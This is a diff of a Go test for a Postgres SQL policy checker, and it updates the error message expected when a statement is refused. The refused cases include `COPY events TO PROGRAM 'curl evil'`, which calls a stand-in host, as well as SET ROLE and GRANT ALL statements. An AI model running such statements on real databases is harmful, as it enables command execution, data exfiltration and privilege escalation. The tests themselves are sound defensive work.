@@ -49,7 +49,7 @@ func TestPolicyPostgres(t *testing.T) {
 		}
 	}
 	refused := []struct{ sql, msg string }{
-		{`COPY events TO PROGRAM 'curl evil'`, `"COPY EVENTS" statements are not allowed`},
+		{`COPY events TO PROGRAM 'curl evil'`, "COPY is only allowed as Redshift's COPY t [(cols)] FROM 's3://bucket/key'"},
 		{`SET ROLE postgres`, `"SET ROLE" statements are not allowed`},
 		{`GRANT ALL ON events TO public`, `"GRANT ALL" statements are not allowed`},
 		{`DO $$ BEGIN PERFORM 1; END $$`, `"DO" statements are not allowed`},
